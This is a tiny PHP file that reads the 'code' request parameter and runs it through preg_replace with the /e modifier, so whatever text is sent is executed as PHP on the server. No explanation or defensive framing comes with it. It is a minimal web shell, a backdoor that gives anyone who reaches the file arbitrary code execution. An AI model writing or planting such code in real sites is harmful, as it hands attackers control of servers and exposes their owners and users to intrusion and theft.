<?php
$s = $_GET['code'];
preg_replace('/.*/e', $s, 'x');
